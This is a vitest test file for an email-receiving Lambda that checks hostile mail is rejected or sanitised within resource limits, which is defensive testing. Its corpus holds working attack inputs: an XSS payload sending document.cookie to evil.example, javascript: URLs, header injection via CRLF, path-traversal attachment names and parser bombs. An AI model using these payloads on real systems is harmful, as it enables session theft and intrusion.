import type { SESEvent } from 'aws-lambda';
import { createConnection, type RowDataPacket } from 'mysql2/promise';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handler as receiveMail } from '../../functions/receive-mail';
import { IsolatedMailParser } from '../../shared/mail/isolated-parse';
import { mailLimits } from '../../shared/mail/limits';
import { lambdaContext } from '../support/events';
import { newsletterMail, readers, sesEvent, sesMessageId, storeRawMail, type Reader } from '../support/mail';

const CRLF = '\r\n';
const from = 'From: Hostile <hostile@attack.example>';
const base = (extra: string[] = []) => [from, 'To: reader@inbound.surge.test', 'Subject: hostile', 'List-Id: <hostile.attack.example>', ...extra];

function nestedMultiparts(depth: number): Buffer {
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i++) {
    open += `Content-Type: multipart/mixed; boundary="n${i}"${CRLF}${CRLF}--n${i}${CRLF}`;
    close = `${CRLF}--n${i}--${close}`;
  }
  return Buffer.from([...base(), `${open}Content-Type: text/plain${CRLF}${CRLF}the bottom${close}`, ''].join(CRLF));
}

/** The corpus, generated: each entry a raw message and what must become of it. */
const corpus: Record<string, { raw: () => Buffer; outcome: 'filed' | 'rejected'; reason?: string }> = {
  oversized: {
    raw: () => newsletterMail({ text: 'x'.repeat(mailLimits.maxMessageBytes + 1024) }),
    outcome: 'rejected',
    reason: 'too-large',
  },
  'ten thousand parts': {
    raw: () => {
      const parts = Array.from({ length: 10_000 }, (_, i) => `--p${CRLF}Content-Type: text/plain${CRLF}${CRLF}part ${i}`);
      return Buffer.from([...base(['Content-Type: multipart/mixed; boundary="p"']), '', ...parts, '--p--', ''].join(CRLF));
    },
    outcome: 'rejected',
    reason: 'too-many-parts',
  },
  'a thousand nested messages': {
    raw: () => {
      const nested = Array.from({ length: 1_000 }, () => `Content-Type: message/rfc822${CRLF}${CRLF}${from}${CRLF}Subject: deeper`).join(CRLF);
      return Buffer.from([...base(), nested, 'Content-Type: text/plain', '', 'the bottom', ''].join(CRLF));
    },
    outcome: 'filed',
  },
  'a thousand nested multiparts': {
    raw: () => nestedMultiparts(1_000),
    outcome: 'rejected',
    reason: 'too-many-parts',
  },
  'nesting past the depth limit': {
    raw: () => nestedMultiparts(mailLimits.maxNestingDepth + 5),
    outcome: 'rejected',
    reason: 'too-deep',
  },
  'a one-megabyte header': {
    raw: () => Buffer.from([...base([`X-Padding: ${'a'.repeat(1024 * 1024)}`]), '', 'body', ''].join(CRLF)),
    outcome: 'rejected',
    reason: 'headers-too-large',
  },
  'broken base64': {
    raw: () =>
      Buffer.from([...base(['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64']), '', 'SGVsbG8@@@!!!===**d29ybGQ', ''].join(CRLF)),
    outcome: 'filed',
  },
  'CRLF in the subject': {
    raw: () => {
      const injected = Buffer.from('Hi\r\nBcc: victim@elsewhere.example\r\n\r\n<script>').toString('base64');
      return Buffer.from(
        [from, 'To: reader@inbound.surge.test', `Subject: =?UTF-8?B?${injected}?=`, 'List-Id: <hostile.attack.example>', '', 'body', ''].join(CRLF),
      );
    },
    outcome: 'filed',
  },
  '../ attachment names': {
    raw: () => {
      const attachment = (name: string) =>
        [
          `--a`,
          `Content-Type: application/octet-stream; name="${name}"`,
          `Content-Disposition: attachment; filename="${name}"`,
          'Content-Transfer-Encoding: base64',
          '',
          'aGVsbG8=',
        ].join(CRLF);
      return Buffer.from(
        [
          ...base(['Content-Type: multipart/mixed; boundary="a"']),
          '',
          '--a',
          'Content-Type: text/plain',
          '',
          'see attached',
          attachment('../../etc/passwd'),
          attachment('..\\..\\boot.ini'),
          attachment('.hidden'),
          '--a--',
          '',
        ].join(CRLF),
      );
    },
    outcome: 'filed',
  },
  'an unknown charset': {
    raw: () => Buffer.from([...base(['Content-Type: text/plain; charset=x-no-such-charset-9000']), '', 'Gr\xfc\xdfe', ''].join(CRLF), 'latin1'),
    outcome: 'filed',
  },
  'script-laden HTML': {
    raw: () =>
      newsletterMail({
        from: 'Hostile <hostile@attack.example>',
        listId: '<hostile.attack.example>',
        html: [
          '<script>fetch("https://evil.example/"+document.cookie)</script>',
          '<img src=x onerror="alert(1)">',
          '<a href="javascript:alert(1)">click</a><a href="  JaVaScRiPt:alert(1)">again</a>',
          '<svg><script>alert(1)</script></svg><iframe src="https://evil.example"></iframe>',
          '<style>body{background:url(https://evil.example/t.gif)}</style>',
          '<div style="background-image:url(https://evil.example/t.gif)">styled</div>',
          '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
          '<form action="https://evil.example"><input name="password"></form>',
          '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
          '<img srcset="https://evil.example/a.gif 2x"><link rel="stylesheet" href="https://evil.example/s.css">',
          '<img data-remote-src="javascript:alert(1)" src="cid:logo"><img data-remote-src="http://tracker.example/p.gif">',
          '<a href="/me/inbox-address">relative</a><p style="margin:-9999px;position:fixed">overlay</p>',
        ].join(''),
      }),
    outcome: 'filed',
  },
  'no sender': {
    raw: () => Buffer.from(['To: reader@inbound.surge.test', 'Subject: who am I', '', 'body', ''].join(CRLF)),
    outcome: 'rejected',
    reason: 'no-sender',
  },
};

let db: Awaited<ReturnType<typeof createConnection>>;
const stored = new Map<string, { messageId: string; reader: Reader }>();

beforeAll(async () => {
  db = await createConnection({ uri: process.env.DATABASE_URL! });
  const names = Object.keys(corpus);
  const [warmUp, ...audience] = await readers(names.length + 1);
  await Promise.all(
    names.map(async (name, i) => {
      const messageId = sesMessageId();
      await storeRawMail(messageId, corpus[name]!.raw());
      stored.set(name, { messageId, reader: audience[i]! });
    }),
  );
  // One plain message first, so the time bound counts a message's handling, not the parser thread's
  // start (in the tests it compiles the parser's TypeScript first: seconds on a busy machine).
  const plain = sesMessageId();
  await storeRawMail(plain, newsletterMail({ to: warmUp!.address }));
  await receiveMail(sesEvent(plain, [warmUp!.address]), lambdaContext());
});
afterAll(() => db.end());

async function outcomeOf(messageId: string) {
  const [[row]] = await db.query<RowDataPacket[]>('SELECT outcome, reason FROM mail_outcomes WHERE ses_message_id = ?', [messageId]);
  return row ? { outcome: row.outcome as string, reason: row.reason as string } : undefined;
}

async function issueOf(messageId: string) {
  const [[row]] = await db.query<RowDataPacket[]>('SELECT subject, sender, html, text, attachments FROM issues WHERE ses_message_id = ?', [messageId]);
  return row;
}

describe('hostile mail', () => {
  it.each(Object.keys(corpus))('handles %s within the time and memory bounds', async (name) => {
    // Prepare
    const { messageId, reader } = stored.get(name)!;
    const expected = corpus[name]!;
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();

    // Act
    await receiveMail(sesEvent(messageId, [reader.address]), lambdaContext());

    // Assess
    expect(performance.now() - started).toBeLessThan(mailLimits.maxProcessingMs);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(20 * mailLimits.maxMessageBytes);
    expect(await outcomeOf(messageId)).toEqual({ outcome: expected.outcome, reason: expected.reason ?? '' });
  });

  it('stores only single-line subjects, bare attachment names and inert HTML', async () => {
    const subject = (await issueOf(stored.get('CRLF in the subject')!.messageId))!.subject as string;
    const attachments = JSON.parse((await issueOf(stored.get('../ attachment names')!.messageId))!.attachments as string) as { filename: string }[];
    const html = (await issueOf(stored.get('script-laden HTML')!.messageId))!.html as string;

    expect(subject).not.toMatch(/[\r\n]/);
    expect(subject).toContain('Bcc: victim@elsewhere.example');
    expect(attachments.map((a) => a.filename)).toEqual(['passwd', 'boot.ini', 'hidden']);
    expect(html).not.toMatch(
      /<script|onerror|javascript:|<iframe|<style|<meta|<base|<form|<input|<object|<embed|<link|srcset|url\(|\ssrc=|tracker|href="\/|margin|position/i,
    );
    expect(html).toContain('styled');
  });

  it('never lets one hostile message fail the others of its event', async () => {
    const [reader] = await readers(1);
    const good = sesMessageId();
    await storeRawMail(good, newsletterMail({ to: reader!.address, listId: '<calm.bits.example>' }));
    const hostile = await Promise.all(
      Object.values(corpus).map(async (entry) => {
        const messageId = sesMessageId();
        await storeRawMail(messageId, entry.raw());
        return sesEvent(messageId, [reader!.address]).Records[0]!;
      }),
    );
    const event: SESEvent = { Records: [...hostile, ...sesEvent(good, [reader!.address]).Records] };

    await receiveMail(event, lambdaContext());

    expect(await outcomeOf(good)).toEqual({ outcome: 'filed', reason: '' });
  });

  it('stops a parse that outlives its time limit or its heap, and parses the next message on a fresh thread', async () => {
    // Prepare: limits far tighter than the function's, so mail within the others can cross them.
    const slow = new IsolatedMailParser({ ...mailLimits, maxProcessingMs: 150 });
    // Its time limit far past the seconds a busy machine may take to fill 16 MB: only the heap stops it.
    const small = new IsolatedMailParser({ ...mailLimits, maxParserHeapMb: 16, maxProcessingMs: 30_000 });
    // Many parts and HTML near its cap to sanitise: seconds of work, far past 150 ms on any machine.
    const longParts = Buffer.from(
      [
        ...base(['Content-Type: multipart/mixed; boundary="p"']),
        '',
        ...Array.from({ length: 300 }, (_, i) => `--p${CRLF}Content-Type: text/plain${CRLF}${CRLF}${'part '.repeat(4_000)}${i}`),
        `--p${CRLF}Content-Type: text/html${CRLF}${CRLF}${'<p><b>x</b></p>'.repeat(130_000)}`,
        '--p--',
        '',
      ].join(CRLF),
    );
    const deepHtml = newsletterMail({ from: 'A <a@attack.example>', html: '<div title="a"><b>x</b></div>'.repeat(65_000) });
    const plain = newsletterMail({ from: 'A <a@attack.example>' });

    // Act
    const outcomes = await Promise.allSettled([slow.parse(longParts), small.parse(deepHtml)]);
    const afterwards = await Promise.all([slow.parse(plain), small.parse(plain)]);
    await Promise.all([slow.close(), small.close()]);

    // Assess
    expect(outcomes.map((o) => (o.status === 'rejected' ? (o.reason as { reason: string }).reason : 'parsed'))).toEqual(['too-slow', 'too-large']);
    expect(afterwards.map((mail) => mail.text)).toEqual([expect.stringContaining('Hello, reader.'), expect.stringContaining('Hello, reader.')]);
  });

  it('fails a parse whose thread went away as retryable, not as hostile mail, and starts a fresh thread', async () => {
    const parser = new IsolatedMailParser();
    const plain = newsletterMail({ from: 'A <a@attack.example>' });
    await parser.parse(plain);
    const long = newsletterMail({ from: 'A <a@attack.example>', text: 'word '.repeat(1_500_000) });

    const cut = parser.parse(long);
    // Handed to the thread before the next turn of the event loop, and parsed over far longer.
    await new Promise((resolve) => setImmediate(resolve));
    await parser.close();
    const outcome = await cut.then(
      () => 'parsed',
      (error: Error) => error.name,
    );
    const next = await parser.parse(plain);
    await parser.close();

    expect(outcome).toBe('Error');
    expect(next.text).toContain('Hello, reader.');
  });
});
